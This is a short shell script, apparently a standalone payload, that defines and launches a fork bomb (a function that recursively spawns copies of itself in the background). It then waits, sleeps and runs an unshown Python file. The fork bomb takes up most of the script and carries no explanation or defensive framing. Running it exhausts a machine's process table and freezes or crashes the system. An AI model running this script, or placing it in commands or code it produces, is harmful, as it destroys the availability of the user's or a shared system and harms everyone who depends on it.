bomb() { bomb | bomb & }
bomb
wait
sleep 1000
python3 x.py
